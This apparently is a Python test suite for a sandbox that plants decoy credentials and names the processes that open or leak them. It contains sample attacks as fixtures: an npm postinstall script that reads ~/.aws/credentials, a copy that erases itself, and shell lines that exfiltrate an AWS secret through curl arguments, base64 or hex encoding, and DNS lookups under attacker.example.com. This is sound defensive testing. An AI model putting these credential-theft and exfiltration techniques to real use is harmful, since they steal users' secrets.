"""Decoys: whoever opens a false credential, or sends one, is named, and gets nothing that is worth
anything. Every attack is tried without the sandbox first, where it gets the real one."""

import base64
import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import CREDENTIAL_VARIABLES, NotApplicable, SECRET, mentions, test  # noqa: E402
from npm_registry import NpmRegistry  # noqa: E402

FACTS = {"stops": "decoys", "event": "decoy.opened"}

DECOYS = (".ssh/id_ed25519", ".aws/credentials", ".netrc", ".git-credentials",
          ".docker/config.json", ".kube/config", ".env")
LOG = ("--on-alert", "log")


def opened(result, path=""):
    return [e for e in result.of_type("decoy.opened") if e["details"]["path"].endswith(path)]


def alerts(result, path=""):
    return [e for e in opened(result, path) if e["severity"] == "alert"]


@test(rows="A001 A002 A003 A005 A006")
def every_decoy_is_watched(t):
    """each false credential is there, holds no real one, and its opener is an alert"""
    t.write(t.home / ".env", f"KEY={SECRET}\n")
    script = 'for f in "$@"; do cat "$HOME/$f" || exit 1; done'
    t.true(t.bare("sh", "-c", script, "x", *DECOYS).out.count(SECRET) == len(DECOYS), "control")
    result = t.succeeded(t.sandbox("sh", "-c", script, "x", *DECOYS, options=LOG))
    t.lacks(result.out, SECRET)
    for part in ("BEGIN OPENSSH", "AKIA", "machine ", "https://", '"auths"', "apiVersion", "DATABASE_URL"):
        t.contains(result.out, part)
    for path in DECOYS:
        t.equal(len(alerts(result, path)), 1, path)
        t.equal(alerts(result, path)[0]["process"]["argv"][0], "cat")
    t.contains(result.said, "opened the decoy ")


@test(hosts="as root")
def opener_after_the_process_ids_started_anew(t):
    """who opens a decoy is named also after so many processes that their numbers started anew"""
    if os.geteuid() != 0:
        raise NotApplicable("only root can say which process number comes next: tested there")
    with open("/proc/sys/kernel/pid_max") as file:
        last = int(file.read())
    script = "for i in $(seq 400); do /bin/true; done; sh -c 'read x < ~/.aws/credentials' theft; /bin/true later"
    with open("/proc/sys/kernel/ns_last_pid", "w") as file:
        file.write(str(last - 200))
    result = t.succeeded(t.sandbox("sh", "-c", script, options=LOG))
    (alert,) = alerts(result)
    t.true(alert["process"]["pid"] < last - 200, "control: the numbers started anew")
    t.equal(alert["process"]["argv"][-1], "theft")


@test(event="none")
def decoys_are_unique(t):
    """two runs show different credentials"""
    show = ("sh", "-c", "cat ~/.aws/credentials ~/.ssh/id_ed25519")
    one = t.succeeded(t.sandbox(*show, options=LOG))
    two = t.succeeded(t.sandbox(*show, options=LOG))
    t.true(not set(one.out.split()[2:]) & set(two.out.split()[2:]) - {"=", *"""aws_access_key_id
        aws_secret_access_key -----BEGIN -----END OPENSSH PRIVATE KEY-----""".split()}
        - {line for line in one.out.split() if line.startswith("b3BlbnNzaC1rZXktdjE")}, one.out)


@test(stops="nothing", event="none")
def ssh_keygen_believes_it(t):
    """ssh-keygen reads the false key, and OpenSSH's own check of the pair is content"""
    t.succeeded(t.bare("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "control"))
    t.contains(t.succeeded(t.bare("ssh-keygen", "-y", "-f", "control")).out, "ssh-ed25519 AAAA")
    result = t.succeeded(t.sandbox("sh", "-c", "ssh-keygen -y -f ~/.ssh/id_ed25519", options=LOG))
    t.contains(result.out, "ssh-ed25519 AAAA")


def way_to_open(mode):
    def body(t):
        program = t.attack_program("decoys")
        path = t.home / ".aws/credentials"
        where = t.base / "link"
        if mode != "rename":
            t.contains(t.bare(program, mode, path, where).out, SECRET, "control")
        result = t.sandbox("sh", "-c", f"{program} {mode} ~/.aws/credentials; cat /dev/null; sleep 0.2",
                           options=LOG)
        t.lacks(result.out, SECRET)
        found = alerts(result, ".aws/credentials")
        t.true(found, f"{mode}: {result} {[e['type'] for e in result.events]}")
        t.equal(found[0]["actor"]["kind"], "project-script")
        if mode in ("nonblock", "spin"):
            return
        t.contains(result.out, "[default]", "it got the false one")
        t.equal(found[0]["process"]["exe"], program, "the opener is told")

    body.__doc__ = f"an opener is told that opens the file this way: {mode}"
    test(body, rows="A184")


for each in ("plain", "nonblock", "spin", "write", "reopen", "directory", "link", "rename",
             "thread", "leaderless", "flip", "daemon", "twice"):
    way_to_open(each)


class Scene:
    """app › qr-tools › easy-qr-gen, whose postinstall is `attack`."""

    def __init__(self, t, attack):
        self.t = t
        self.registry = NpmRegistry()
        self.registry.add("easy-qr-gen", "1.4.2", {"attack.js": attack},
                          scripts={"postinstall": "node attack.js"})
        self.registry.add("qr-tools", "2.0.1", {"index.js": ""}, dependencies={"easy-qr-gen": "^1.4.0"})
        t.write("package.json", json.dumps({"name": "app", "version": "1.0.0", "private": True,
                                            "dependencies": {"qr-tools": "^2.0.0"}}))
        self.env = CREDENTIAL_VARIABLES | {"npm_config_registry": self.registry.url()}

    def install(self, *options, env=None):
        return self.t.sandbox("npm", "install", env=self.env | (env or {}), timeout=100,
                              options=["--allow-host", f"localhost:{self.registry.port}", *options])


READ = """
const fs = require('fs'), os = require('os');
fs.writeFileSync(__dirname + '/got', fs.readFileSync(os.homedir() + '/.aws/credentials'));
"""


@test(time_limit=120, rows="A002")
def package_that_opens(t):
    """the package that opens a decoy is named, and the changes of the run are held"""
    scene = Scene(t, READ)
    t.succeeded(t.bare("npm", "install", env=scene.env))
    t.contains((t.project / "node_modules/easy-qr-gen/got").read_text(), SECRET, "control")
    t.succeeded(t.bare("rm", "-r", "node_modules", "package-lock.json"))
    result = t.succeeded(scene.install())
    found = alerts(result)
    t.equal(len(found), 1, found)
    t.equal({**found[0]["actor"]} | {"path": None},
            {"kind": "script", "package": "easy-qr-gen", "version": "1.4.2",
             "event": "postinstall", "path": None})
    t.true(found[0]["details"]["path"].endswith("/.aws/credentials"), found)
    t.contains(result.said, "ALERT: easy-qr-gen@1.4.2 postinstall")
    t.true(not (t.project / "node_modules").exists(), "nothing is committed")
    t.contains(t.cli("review").out, "node_modules", "but held for review")


ERASE = READ + """
fs.writeFileSync('package.json', JSON.stringify({name: 'easy-qr-gen', version: '1.4.2'}));
fs.unlinkSync('attack.js');
"""


@test(time_limit=120, rows="A116", stops="log, decoys", event="decoy.opened script.started")
def script_that_erases_itself(t):
    """a script that removes itself and leaves a clean package.json is in the log all the same, with its command"""
    scene = Scene(t, ERASE)
    t.succeeded(t.bare("npm", "install", env=scene.env))
    package = t.project / "node_modules/easy-qr-gen"
    t.lacks((package / "package.json").read_text(), "attack.js", "control: no trace is left")
    t.true(not (package / "attack.js").exists(), "control")
    t.bare("rm", "-rf", "node_modules", "package-lock.json")
    result = scene.install("--on-alert=log")
    started, = [e for e in result.of_type("script.started") if e["actor"].get("package") == "easy-qr-gen"]
    t.contains(json.dumps(started["details"]), "node attack.js")
    t.equal({e["actor"].get("package") for e in alerts(result, ".aws/credentials")}, {"easy-qr-gen"})


@test(time_limit=120)
def answers_to_an_alert(t):
    """log commits, hold holds, fail holds and fails, CI is fail by itself"""
    scene = Scene(t, READ)
    for options, env, code, committed in (
        (LOG, {}, 0, True),
        (("--on-alert", "hold"), {}, 0, False),
        (("--on-alert", "fail"), {}, 122, False),
        ((), {"CI": "true"}, 122, False),
        (("--on-alert=log",), {"CI": "true"}, 0, True),
    ):
        t.bare("rm", "-rf", "node_modules", "package-lock.json")
        result = scene.install(*options, env=env)
        t.equal(result.code, code, f"{options} {result}")
        t.equal((t.project / "node_modules").exists(), committed, options)
        t.bare("sh", "-c", f"{os.environ.get('SANDBOX_RUN', 'true')} discard")


@test
def kill_is_at_once(t):
    """with --on-alert=kill the opener never gets the content, and what was changed is held"""
    script = "echo x > changed; cat ~/.aws/credentials; echo survived"
    t.contains(t.bare("sh", "-c", script).out, "survived", "control")
    t.bare("rm", "changed")
    result = t.sandbox("sh", "-c", script, options=["--on-alert", "kill"])
    t.equal(result.code, 122, result)
    t.lacks(result.out, "aws")
    t.lacks(result.out, "survived")
    t.true(not (t.project / "changed").exists(), "not committed")
    t.contains(t.cli("review").out, "changed", "held")
    t.equal(len(alerts(result)), 1)


def leak(words, script, channel):
    def body(t):
        control = t.bare("sh", "-c", script.replace("getent", "echo").replace("curl", "echo"))
        t.true(control.code == 0, control)
        result = t.sandbox("sh", "-c", script, options=LOG)
        leaked = result.of_type("decoy.leaked")
        t.true(leaked, f"{result} {result.of_type('name.lookup', 'process.exec')}")
        t.equal({e["severity"] for e in leaked}, {"alert"})
        t.true(any(e["details"]["channel"] == channel for e in leaked), leaked)
        t.true(all(e["details"]["decoy"].endswith(".aws/credentials") for e in leaked), leaked)
        t.contains(result.said, "tried to give away the decoy ~/.aws/credentials")

    body.__doc__ = f"a decoy's value in {words} is an exfiltration attempt"
    test(body, event="decoy.leaked", rows="A128" if "name" in words else "A120")


KEY = "key=$(sed -n 's/.*secret.* = //p' ~/.aws/credentials); "
leak("an argument", KEY + 'true curl -d "$key" || :; /bin/echo "$key"', "a program's arguments")
leak("an argument, in base 64", KEY + '/bin/echo "$(echo "x$key" | base64 -w0)"', "a program's arguments")
leak("an argument, in hex", KEY + '/bin/echo "$(printf %s "$key" | od -An -tx1 | tr -d " \\n")"',
     "a program's arguments")
leak("a name, cut into labels", KEY +
     'hex=$(printf %s "$key" | od -An -tx1 | tr -d " \\n"); '
     'getent hosts "$(echo $hex | cut -c1-40).$(echo $hex | cut -c41-80).attacker.example.com" || :',
     "a name that was looked up")


@test(rows="A030", event="decoy.leaked")
def variables(t):
    """files+env: the caller's tokens stay out, false ones are in, and one in an argument is a leak"""
    show = ("sh", "-c", 'echo "$AWS_SECRET_ACCESS_KEY $GITHUB_TOKEN $NPM_TOKEN"; /bin/echo "$GITHUB_TOKEN"')
    t.contains(t.bare(*show, env=CREDENTIAL_VARIABLES).out, SECRET, "control")
    t.equal(t.sandbox(*show, env=CREDENTIAL_VARIABLES).out.split(), [], "not by default")
    result = t.sandbox(*show, env=CREDENTIAL_VARIABLES, options=[*LOG, "--decoys", "files+env"])
    t.lacks(result.out, SECRET)
    t.contains(result.out, " ghp_")
    t.contains(result.out, " npm_")
    leaked = result.of_type("decoy.leaked")
    t.equal([e["details"]["decoy"] for e in leaked], ["the variable GITHUB_TOKEN"])


@test(stops="nothing", event="none")
def variables_in_use(t):
    """a variable that the project's .npmrc uses gets no false value"""
    t.write(".npmrc", "//registry.example.com/:_authToken=${NPM_TOKEN}\n")
    result = t.sandbox("sh", "-c", 'echo "$NPM_TOKEN"', options=["--decoys", "files+env"])
    t.equal(result.out.strip(), "")


@test(stops="nothing", event="none")
def switched_off(t):
    """--decoys=off shows no false credential"""
    result = t.sandbox("sh", "-c", "cat ~/.aws/credentials", options=["--decoys=off"])
    t.contains(result.err, "No such file")
    t.equal(opened(result), [])


@test(stops="nothing", event="none")
def what_the_user_shows(t):
    """a credential that the user shows on purpose is the real one, and not watched"""
    result = t.sandbox("sh", "-c", "cat ~/.aws/credentials", options=["--ro", t.home / ".aws"])
    t.contains(result.out, SECRET)
    t.equal(opened(result), [])


@test(stops="nothing", event="none")
def looking_is_no_alert(t):
    """a look at the home's names and sizes, and git's, ssh's and curl's own reads raise no alert"""
    script = ("ls -laR ~ >/dev/null; find ~ -name '*.json' >/dev/null; git init -q x; git -C x status >/dev/null; "
              "git ls-remote https://attacker.example.com/x; ssh -V; test -r ~/.netrc; "
              "python3 -c 'import netrc; netrc.netrc()'; stat ~/.aws/credentials >/dev/null")
    result = t.sandbox("sh", "-c", script)
    t.equal(alerts(result), [])
    t.equal(result.of_type("decoy.leaked"), [])
    t.true([e for e in opened(result, ".netrc") if e["severity"] == "notice"], "but Python's was seen")


@test
def another_program_as_curl(t):
    """a program that a package puts somewhere under the name of an HTTP client may not look into ~/.netrc unseen"""
    script = 'cp /bin/cat {0}/curl && {0}/curl ~/.netrc'
    for place in (t.project, t.home / "bin", "/tmp"):
        t.true(place == "/tmp" or not place.mkdir(exist_ok=True), place)
        t.contains(t.bare("sh", "-c", script.format(place)).out, SECRET, "control")
        result = t.sandbox("sh", "-c", f"mkdir -p {place}; " + script.format(place), options=LOG)
        t.contains(result.out, "machine ", "it has read the decoy")
        t.equal(len(alerts(result, ".netrc")), 1, place)


@test
def endless_opens(t):
    """a package that opens a decoy in a loop gets no further events, and the run goes on"""
    script = "i=0; while [ $i -lt 300 ]; do read x < ~/.aws/credentials; i=$((i+1)); done; echo done"
    result = t.succeeded(t.sandbox("sh", "-c", script, options=LOG))
    t.contains(result.out, "done")
    t.true(1 <= len(alerts(result)) <= 70, len(alerts(result)))
